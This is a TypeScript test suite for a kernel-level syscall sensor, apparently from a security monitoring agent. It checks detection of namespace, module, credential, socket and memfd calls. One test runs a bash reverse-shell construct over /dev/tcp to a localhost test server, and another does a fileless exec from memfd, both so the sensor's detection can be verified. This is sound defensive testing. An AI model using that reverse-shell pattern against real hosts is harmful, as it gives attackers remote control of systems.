// Watched calls against the real kernel: each family once, with what its descriptor stands for and what it did to credentials.
import assert from "node:assert/strict";
import { once } from "node:events";
import { closeSync, mkdtempSync, rmSync, symlinkSync } from "node:fs";
import { connect, createServer, type AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test, type TestContext } from "node:test";
import { fileURLToPath } from "node:url";
import type { CallEvent, WatchedCall } from "../../core/sense/deed-events.ts";
import type { Sensor } from "../../core/sense/sensor.ts";
import { skipUnless } from "../../../test/support/skip.ts";
import { createKernelSensor } from "./kernel-sensor.ts";
import { namedCalls } from "./raw-calls.fixture.ts";
import { openTracepoints } from "./tracepoints.ts";
import { createRecorder, kernelSensorMissing, run } from "./sensor.fixture.ts";

const missing = await kernelSensorMissing();
const fixture = fileURLToPath(new URL("raw-calls.fixture.ts", import.meta.url));

/** Kernels without modules or kexec have not these calls. */
function hasCall(name: string): boolean {
  using tracepoints = openTracepoints();
  const opened = tracepoints.open(`syscalls/sys_exit_${name}`);
  if (typeof opened === "number") closeSync(opened);
  return typeof opened === "number";
}

describe("watched calls seen by the kernel", () => {
  const recorder = createRecorder(() => sensor?.stats().dropsByType);
  const folder = mkdtempSync(join(tmpdir(), "garrison-calls-"));
  let sensor: Sensor | undefined;

  before(async () => {
    if (missing !== "") return;
    sensor = await createKernelSensor();
    await sensor.start(recorder.onBatch);
  });
  after(async () => {
    await sensor?.close();
    rmSync(folder, { recursive: true });
  });
  const canRun = (context: TestContext): boolean => skipUnless(context, missing === "", `kernel sensor: ${missing}`);
  const find = (call: WatchedCall, pid: number, matches: (event: CallEvent) => boolean = () => true) =>
    recorder.find("call", (event) => event.call === call && event.process.pid === pid && matches(event));

  const expected: Readonly<Record<string, Partial<CallEvent>>> = {
    unshare: { arguments: [0x04000000], result: 0 },
    setns: { result: 0 },
    chroot: { text: "/tmp", result: 0 },
    sethostname: { text: "garrison-test", result: 0 },
    bpf: { arguments: [5, 0, 0] },
    perf_event_open: { arguments: [0, 0, -1, -1, 0] },
    prctl: { arguments: [38, 1, 0, 0, 0], result: 0 },
    kill: { result: 0 },
    delete_module: { text: "garrison_none" },
    finit_module: { text: "/etc/hostname" },
    pivot_root: { text: "/garrison-none" },
  };
  test("only calls of modules and of kexec may be missing in a kernel", (context) => {
    if (!canRun(context)) return;
    const absent = namedCalls.filter((name) => !hasCall(name));
    assert.deepEqual(
      absent.filter((name) => !/^(?:init|finit|delete)_module$|^kexec_load$/.test(name)),
      [],
    );
  });

  for (const name of namedCalls.filter((each) => missing !== "" || hasCall(each))) {
    test(`${name} is told`, async (context) => {
      if (!canRun(context)) return;
      const { pid } = await run(process.execPath, [fixture, name]);
      const wanted = expected[name] ?? {};
      // Node itself makes some of these calls too; the fixture's own one is among them.
      const event = await find(name as WatchedCall, pid, (candidate) =>
        Object.entries(wanted).every(
          ([key, value]) => JSON.stringify(candidate[key as keyof CallEvent]) === JSON.stringify(value),
        ),
      );
      assert.equal(event.way, "syscall");
      assert.equal(event.count, 1);
    });
  }

  test("credentials before and after", async (context) => {
    if (!canRun(context)) return;
    const { pid } = await run(process.execPath, [fixture, "setresuid"]);
    const { credentials, arguments: given } = await find("setresuid", pid);
    assert.deepEqual(given, [1000, 1000, 1000]);
    assert.deepEqual([credentials?.uidBefore, credentials?.uidAfter], [process.geteuid?.(), 1000]);
    assert.ok((credentials?.capabilitiesBefore ?? 0) > 0);
    assert.equal(credentials?.capabilitiesAfter, 0);
  });

  test("new namespaces of a clone", async (context) => {
    if (!canRun(context)) return;
    const { pid } = await run("unshare", ["--fork", "--pid", "/bin/true"]);
    const event = await find("unshare", pid);
    assert.deepEqual(event.arguments, [0x20000000]);
  });

  test("a TCP connection: who listens, connects and accepts, with both ends", async (context) => {
    if (!canRun(context)) return;
    recorder.events.length = 0;
    const server = createServer((socket) => socket.end());
    await once(server.listen(0, "127.0.0.1"), "listening");
    const { port } = server.address() as AddressInfo;
    const client = connect(port, "127.0.0.1");
    await once(client.resume(), "close");
    server.close();
    const connected = await find("connect", process.pid, ({ descriptor }) => descriptor?.tuple?.remotePort === port);
    assert.deepEqual([connected.descriptor?.kind, connected.descriptor?.protocol], ["ipv4", "tcp"]);
    assert.equal(connected.descriptor?.tuple?.remoteAddress, "127.0.0.1");
    const listened = await find("listen", process.pid, ({ descriptor }) => descriptor?.tuple?.localPort === port);
    assert.equal(listened.descriptor?.tuple?.localAddress, "127.0.0.1");
    const accepted = await find("accept", process.pid, ({ descriptor }) => descriptor?.tuple?.localPort === port);
    assert.equal(accepted.descriptor?.tuple?.remoteAddress, "127.0.0.1");
    assert.ok((accepted.descriptor?.tuple?.remotePort ?? 0) > 0);
    assert.ok(accepted.result > 0);
    await find("bind", process.pid, ({ descriptor }) => descriptor?.tuple?.localAddress === "127.0.0.1");
    await find("socket", process.pid, ({ descriptor }) => descriptor?.protocol === "tcp");
  });

  test("a reverse shell's dup: the standard descriptors become a connection", async (context) => {
    if (!canRun(context)) return;
    // The shell may be gone, with what it was sent unread.
    const server = createServer((socket) => socket.on("error", () => {}).end("exit\n"));
    await once(server.listen(0, "127.0.0.1"), "listening");
    const { port } = server.address() as AddressInfo;
    const { spawn } = await import("node:child_process");
    const shell = spawn("bash", ["-c", `exec 5<>/dev/tcp/127.0.0.1/${port}; exec 0<&5 1>&5`], { stdio: "ignore" });
    await once(shell, "exit");
    server.close();
    for (const number of [0, 1]) {
      const event = await find("dup", shell.pid ?? 0, ({ result }) => result === number);
      assert.deepEqual([event.descriptor?.kind, event.descriptor?.tuple?.remotePort], ["ipv4", port]);
      assert.equal(event.descriptor?.number, number);
    }
  });

  test("a Unix socket behind a link shows what was asked for and where it is", async (context) => {
    if (!canRun(context)) return;
    const link = join(tmpdir(), `garrison-link-${process.pid}`);
    symlinkSync(folder, link);
    try {
      const server = createServer((socket) => socket.end());
      await once(server.listen(join(folder, "runtime.sock")), "listening");
      const client = connect(join(link, "runtime.sock"));
      await once(client.resume(), "close");
      server.close();
      const event = await find("connect", process.pid, ({ text }) => text === join(link, "runtime.sock"));
      assert.deepEqual([event.descriptor?.kind, event.descriptor?.path], ["unix", join(folder, "runtime.sock")]);
    } finally {
      rmSync(link);
    }
  });

  test("a connect that fails says where to", async (context) => {
    if (!canRun(context)) return;
    const { pid } = await run("bash", ["-c", ": < /dev/tcp/127.0.0.1/1"]);
    const event = await find("connect", pid, ({ descriptor }) => descriptor?.tuple?.remotePort === 1);
    assert.equal(event.result, -111);
  });

  test("memfd: its name, and an exec from it is fileless", async (context) => {
    if (!canRun(context)) return;
    const program = fileURLToPath(new URL("memory-exec.fixture.ts", import.meta.url));
    const { pid } = await run(process.execPath, [program]);
    const made = await find("memfd_create", pid, ({ text }) => text === "nowhere");
    assert.deepEqual([made.descriptor?.kind, made.descriptor?.path], ["memfd", "/memfd:nowhere"]);
    const exec = await recorder.find("exec", (event) => event.path === "/memfd:nowhere" && event.parent.pid === pid);
    assert.equal(exec.facts?.isFileless, true);
  });

  test("equal calls are told once, and the agent's own not at all", async (context) => {
    if (!canRun(context)) return;
    const other = createRecorder(() => silent.stats().dropsByType);
    const silent = await createKernelSensor({ excludedPid: process.pid });
    try {
      await silent.start(other.onBatch);
      const server = createServer();
      await once(server.listen(0, "127.0.0.1"), "listening");
      server.close();
      const { pid } = await run("bash", ["-c", "for i in 1 2 3 4 5; do : < /dev/tcp/127.0.0.1/1; done"]);
      // Without SHELL in its environment bash also asks the name service cache for the user's shell.
      const isToPortOne = ({ call, descriptor }: CallEvent): boolean =>
        call === "connect" && descriptor?.tuple?.remotePort === 1;
      await other.find("call", (event) => event.process.pid === pid && isToPortOne(event));
      await other.find("exit", (event) => event.process.pid === pid);
      const ofPid = (wanted: number) =>
        other.events.filter(
          // A count of repeats may come by itself, where all of this takes long.
          (event) =>
            (event.type === "call" || event.type === "file") && !event.isRepeat && event.process.pid === wanted,
        );
      assert.deepEqual(ofPid(process.pid), []);
      const connects = ofPid(pid).filter((event) => event.type === "call" && isToPortOne(event));
      assert.equal(connects.length, 1, JSON.stringify(connects));
    } finally {
      await silent.close();
    }
  });
});
